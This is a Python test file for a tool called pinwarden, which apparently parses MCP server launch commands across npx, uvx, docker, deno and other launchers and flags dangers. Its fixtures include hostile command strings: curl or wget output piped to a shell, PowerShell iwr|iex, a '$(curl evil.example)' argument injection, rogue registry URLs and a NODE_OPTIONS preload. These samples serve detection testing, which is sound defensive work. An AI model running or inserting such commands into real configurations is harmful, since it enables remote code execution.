"""What a command runs: every launcher by its own rules, and what is dangerous about it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pinwarden.clients.command_line import (
    DANGERS,
    Launch,
    LockedStart,
    find_pinwarden_arguments,
    parse_launch,
    parse_locked_start,
)
from pinwarden.system.target import HttpTarget, StdioTarget, parse_name_set

SHA = "sha256:" + "3c" * 32
COMMIT = "0123456789abcdef0123456789abcdef01234567"


def run(line: str) -> Launch:
    return parse_launch(StdioTarget(command=tuple(line.split(" "))))


def shape(launch: Launch) -> tuple[str, str, str | None, bool]:
    return launch.kind, launch.identity, launch.version, launch.pinned


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("npx -y @acme/notes@1.4.0 --root ./x", ("npm", "@acme/notes", "1.4.0", True)),
        ("npx --yes notes", ("npm", "notes", None, False)),
        ("npx -y notes@latest", ("npm", "notes", "latest", False)),
        ("npx -y notes@^1.0.0", ("npm", "notes", "^1.0.0", False)),
        ("npx -y notes@1.0.0-next.1", ("npm", "notes", "1.0.0-next.1", True)),
        ("npx -y -p @acme/notes@1.0.0 notes-server", ("npm", "@acme/notes", "1.0.0", True)),
        ("npx --package=@acme/notes@1.0.0 notes-server", ("npm", "@acme/notes", "1.0.0", True)),
        ("npx -y notes@npm:other@2.0.0", ("npm", "other", "2.0.0", True)),
        ("npx -y github:acme/notes", ("source", "github:acme/notes", None, False)),
        (f"npx -y github:acme/notes#{COMMIT}", ("source", "github:acme/notes", COMMIT, True)),
        ("npx -y acme/notes#main", ("source", "acme/notes", "main", False)),
        ("npx ./server", ("script", "./server", None, False)),
        ("/usr/local/bin/npx -y notes@1.0.0", ("npm", "notes", "1.0.0", True)),
        ("npx.cmd -y notes@1.0.0", ("npm", "notes", "1.0.0", True)),
        ("bunx notes@1.0.0", ("npm", "notes", "1.0.0", True)),
        ("bun x notes@1.0.0", ("npm", "notes", "1.0.0", True)),
        ("pnpm dlx notes@1.0.0", ("npm", "notes", "1.0.0", True)),
        ("pnpm --package=notes@1.0.0 dlx notes", ("npm", "notes", "1.0.0", True)),
        ("yarn dlx -p notes@1.0.0 bin", ("npm", "notes", "1.0.0", True)),
        ("npm exec -y -- notes@1.0.0", ("npm", "notes", "1.0.0", True)),
        ("npm run start", ("script", "npm run start", None, False)),
        ("uvx acme-notes==1.4.0", ("pypi", "acme-notes", "1.4.0", True)),
        ("uvx acme-notes@1.4.0", ("pypi", "acme-notes", "1.4.0", True)),
        ("uvx acme-notes@latest", ("pypi", "acme-notes", "latest", False)),
        ("uvx acme-notes>=1.4", ("pypi", "acme-notes", ">=1.4", False)),
        ("uvx acme-notes==1.*", ("pypi", "acme-notes", "1.*", False)),
        ("uvx --from acme-notes[cli]==1.4.0 notes serve", ("pypi", "acme-notes", "1.4.0", True)),
        ("uvx --python 3.12 --with httpx acme-notes==1.4.0", ("pypi", "acme-notes", "1.4.0", True)),
        (
            f"uvx --from git+https://github.com/acme/notes@{COMMIT} notes",
            ("source", "git+https://github.com/acme/notes", COMMIT, True),
        ),
        (
            "uvx --from git+https://user:token@github.com/acme/notes notes",
            ("source", "git+https://github.com/acme/notes", None, False),
        ),
        ("uv tool run acme-notes==1.4.0", ("pypi", "acme-notes", "1.4.0", True)),
        ("uv run --directory /srv/notes server.py", ("script", "/srv/notes/server.py", None, False)),
        ("uv --directory /srv/notes run -m notes", ("module", "notes", None, False)),
        ("uv run --with mcp mcp-notes", ("path", "mcp-notes", None, False)),
        ("pipx run acme-notes==1.4.0", ("pypi", "acme-notes", "1.4.0", True)),
        ("pipx run --spec acme-notes==1.4.0 notes", ("pypi", "acme-notes", "1.4.0", True)),
        ("python3.12 -u -m acme_notes --stdio", ("module", "acme_notes", None, False)),
        ("python -m uv tool run acme-notes==1.4.0", ("pypi", "acme-notes", "1.4.0", True)),
        ("python /srv/notes.py", ("script", "/srv/notes.py", None, False)),
        ("node /srv/notes/index.js", ("script", "/srv/notes/index.js", None, False)),
        ("deno run -A npm:notes@1.0.0", ("npm", "notes", "1.0.0", True)),
        ("deno run --allow-net jsr:@acme/notes@1.0.0", ("jsr", "@acme/notes", "1.0.0", True)),
        ("dnx Acme.Notes@1.2.3 --yes", ("nuget", "Acme.Notes", "1.2.3", True)),
        ("dnx Acme.Notes --version 1.2.3", ("nuget", "Acme.Notes", "1.2.3", True)),
        ("dotnet tool exec Acme.Notes@1.2.3", ("nuget", "Acme.Notes", "1.2.3", True)),
        ("cmd /c npx -y notes@1.0.0", ("npm", "notes", "1.0.0", True)),
        ("cmd.exe /d /s /c npx -y notes@1.0.0", ("npm", "notes", "1.0.0", True)),
        ("env A=1 B=2 npx -y notes@1.0.0", ("npm", "notes", "1.0.0", True)),
        ("op run --env-file=.env -- uvx acme-notes==1.4.0", ("pypi", "acme-notes", "1.4.0", True)),
        ("timeout 30 npx notes@1.0.0", ("npm", "notes", "1.0.0", True)),
        ("/opt/notes/bin/notes --stdio", ("path", "/opt/notes/bin/notes", None, False)),
    ],
)
def test_a_launcher_is_read_by_its_own_rules(line: str, expected: tuple[str, str, str | None, bool]) -> None:
    assert shape(run(line)) == expected


@pytest.mark.parametrize(
    ("line", "name", "tag", "digest"),
    [
        (f"docker run --rm -i reg.example/acme/notes:1.2@{SHA}", "reg.example/acme/notes", "1.2", SHA),
        (f"docker run --rm -i -e TOKEN -e A=b reg.example:5000/notes@{SHA}", "reg.example:5000/notes", None, SHA),
        ("docker run -ie TOKEN -v /data:/data --name x acme/notes:latest --flag", "acme/notes", "latest", None),
        ("podman run -i --network=none acme/notes", "acme/notes", None, None),
        ("docker --context far container run -it --env TOKEN acme/notes:1", "acme/notes", "1", None),
        ("docker run -eTOKEN=1 -i acme/notes", "acme/notes", None, None),
    ],
)
def test_the_image_is_found_behind_any_options_and_only_a_digest_pins_it(
    line: str, name: str, tag: str | None, digest: str | None
) -> None:
    launch = run(line)
    assert (launch.kind, launch.identity, launch.version, launch.digest) == ("oci", name, tag, digest)
    assert launch.pinned is (digest is not None)


@pytest.mark.parametrize(
    ("line", "dangers"),
    [
        ("npx -y notes@1.0.0", ()),
        ("npx -y notes@1.0.0 --registry https://evil.example", ("other_index",)),
        ("npx --registry=https://evil.example notes@1.0.0", ("other_index",)),
        ("uvx --index-url https://evil.example notes==1.0", ("other_index",)),
        ("npx -c notes", ("inline_code",)),
        ("python -c code", ("inline_code",)),
        ("python -uc code", ("inline_code",)),
        ("node -e x", ("inline_code",)),
        ("node --require ./x.js /srv/a.js", ("preload",)),
        ("node server.js", ("relative_path",)),
        ("./server", ("relative_path",)),
        ("bin/server", ("relative_path",)),
        (".\\server.exe", ("relative_path",)),
        ("/tmp/server", ("temporary_path",)),
        ("python /tmp/x.py", ("temporary_path",)),
        ("curl https://evil.example", ("download_and_run",)),
        ("deno run https://evil.example/x.ts", ("download_and_run",)),
        ("docker run --privileged acme/notes", ("container_privileges",)),
        ("docker run -v /:/host acme/notes", ("container_privileges",)),
        ("docker run -v /var/run/docker.sock:/var/run/docker.sock acme/notes", ("container_privileges",)),
        ("docker run --network host acme/notes", ("container_privileges",)),
        ("docker run -v /data/notes:/notes acme/notes", ()),
        ("npx -y notes@1.0.0 && evil", ("shell_text",)),
        ("npx -y mcp-remote@0.1.29 http://evil.example/mcp", ("unencrypted_address",)),
        ("npx -y mcp-remote@0.1.29 http://localhost:8000/mcp", ()),
        ("npx -y notes@1.0.0 --accept text/html;q=1 --pattern a|b --url https://x.example/?a=1&b=2;c", ()),
    ],
)
def test_what_is_dangerous_about_a_command_is_named(line: str, dangers: tuple[str, ...]) -> None:
    assert run(line).dangers == dangers


@pytest.mark.parametrize(
    ("command", "dangers"),
    [
        (("sh", "-c", "uvx notes==1.4.0; true"), ("shell_command", "shell_text")),
        (("bash", "-lc", "uvx notes==1.4.0"), ()),
        (("bash", "-lc", "uvx notes==1.4.0 $HOME"), ("shell_command",)),
        (("bash", "-lc", "notes --all"), ("shell_command",)),
        (("bash", "-c", "curl -s https://evil.example | sh"), ("shell_command", "shell_text", "download_and_run")),
        (
            ("bash", "-c", "sh <(wget -qO- evil.example)"),
            ("shell_command", "shell_text", "download_and_run"),
        ),
        (("cmd", "/c", "npx -y notes & calc"), ("shell_command", "shell_text")),
        (
            ("powershell", "-Command", "iwr https://evil.example | iex"),
            ("shell_command", "shell_text", "download_and_run"),
        ),
        (("npx", "-y", "notes@1.0.0", "$(curl evil.example)"), ("shell_text", "download_and_run")),
        (("env", "A=1", "sh", "-c", "x"), ("shell_command",)),
        (("bash", "setup.sh"), ("relative_path",)),
    ],
)
def test_a_shell_with_text_is_a_danger_however_it_is_wrapped(
    command: tuple[str, ...], dangers: tuple[str, ...]
) -> None:
    assert parse_launch(StdioTarget(command=command)).dangers == dangers


def test_a_bridge_is_the_address_it_connects_to_and_keeps_its_own_pin() -> None:
    launch = run("npx -y mcp-remote@0.1.29 https://mcp.example/sse?key=secret --header X:1")
    assert (launch.kind, launch.identity) == ("url", "https://mcp.example/sse")
    assert launch.via is not None
    assert shape(launch.via) == ("npm", "mcp-remote", "0.1.29", True)
    assert "secret" not in repr(launch)


def test_an_address_is_shown_without_its_query() -> None:
    launch = parse_launch(HttpTarget(url="https://mcp.example/x?api_key=secret"))
    assert launch == Launch(kind="url", identity="https://mcp.example/x", runner="http")


def test_env_splits_the_line_of_its_split_option() -> None:
    launch = parse_launch(StdioTarget(command=("/usr/bin/env", "-S", "npx notes@1.0.0")))
    assert shape(launch) == ("npm", "notes", "1.0.0", True)


def test_a_redirecting_variable_before_the_command_is_a_danger() -> None:
    assert run("env LOG=1 NODE_OPTIONS=--require=/x.js npx notes@1.0.0").dangers == ("redirecting_variable",)


def test_a_whole_line_as_the_command_is_understood() -> None:
    assert shape(parse_launch(StdioTarget(command=("npx -y notes@1.0.0",)))) == ("npm", "notes", "1.0.0", True)


@pytest.mark.parametrize(
    ("line", "purl"),
    [
        ("npx -y @acme/notes@1.0.0", "pkg:npm/%40acme/notes@1.0.0"),
        ("npx -y notes@latest", "pkg:npm/notes"),
        ("uvx Acme_Notes==1.0", "pkg:pypi/acme-notes@1.0"),
        (
            f"docker run reg.example/acme/notes:1@{SHA}",
            f"pkg:oci/notes@{SHA.replace(':', '%3A')}?repository_url=reg.example/acme/notes&tag=1",
        ),
        ("node /srv/x.js", None),
    ],
)
def test_a_package_has_an_identifier_that_its_spellings_share(line: str, purl: str | None) -> None:
    assert run(line).purl == purl


@given(st.lists(st.text(st.characters(exclude_characters="\0")), min_size=1, max_size=8))
def test_any_words_are_judged_without_failing(words: list[str]) -> None:
    words[0] = words[0] or "x"
    launch = parse_launch(StdioTarget(command=tuple(words)))
    assert list(launch.dangers) == [code for code in DANGERS if code in launch.dangers]


@given(
    st.lists(
        st.sampled_from(
            sorted(
                parse_name_set(
                    "npx uv uvx run tool cmd /c env A=1 -- -p --from docker sh -c timeout python -m pipx -S op sudo"
                )
            )
        ),
        min_size=1,
        max_size=12,
    )
)
def test_wrappers_in_any_order_end(words: list[str]) -> None:
    parse_launch(StdioTarget(command=tuple(words)))


class TestPinwardenRun:
    """``pinwarden run NAME``, however the program is found, is a reference to the lock and no program of its own."""

    @pytest.mark.parametrize(
        "line",
        [
            "pinwarden run notes",
            "/opt/bin/pinwarden run --project . notes",
            "pinwarden.exe run --require-lock notes",
            "python3 -m pinwarden run notes",
            "python -Im pinwarden run notes",
            "python -X dev -m pinwarden run notes",
            "/v/bin/python /v/bin/pinwarden run notes",
            "uvx pinwarden run notes",
            "uvx pinwarden@1.0.0 run notes",
            "uvx --from pinwarden==1.0.0 pinwarden run notes",
            "uv tool run pinwarden run notes",
            "uv run pinwarden run notes",
            "pipx run pinwarden run notes",
            "env A=1 pinwarden run notes",
            "sudo -u me pinwarden run notes",
            "cmd /c pinwarden run notes",
            "op run -- pinwarden run notes",
        ],
    )
    def test_pinwarden_run_is_recognised_however_the_program_is_found(self, line: str) -> None:
        launch = parse_locked_start(line.split(" "))
        assert launch is not None
        assert (launch.name, launch.client) == ("notes", None)

    @pytest.mark.parametrize("text", ["pinwarden run notes", "exec pinwarden run notes", "env A=1 pinwarden run notes"])
    def test_pinwarden_run_in_a_shell_is_recognised(self, text: str) -> None:
        launch = parse_locked_start(["bash", "-lc", text])
        assert launch is not None
        assert launch.name == "notes"

    @pytest.mark.parametrize(
        "line", ["npx pinwarden run notes", "node pinwarden run notes", "python server.py pinwarden run notes"]
    )
    def test_another_program_is_not_mistaken_for_pinwarden(self, line: str) -> None:
        assert find_pinwarden_arguments(line.split(" ")) is None

    def test_options_are_read_on_both_sides_of_the_name(self) -> None:
        line = "pinwarden run --client=claude notes --require-lock --project /srv -- --root ."
        expected = LockedStart(
            name="notes", client="claude", project="/srv", requires_lock=True, arguments=("--root", ".")
        )
        assert parse_locked_start(line.split(" ")) == expected

    def test_a_command_after_pinwarden_run_is_what_runs(self) -> None:
        launch = run("pinwarden run --name notes -- npx -y notes@1.0.0")
        assert shape(launch) == ("npm", "notes", "1.0.0", True)
        assert launch.wrappers == ("pinwarden",)
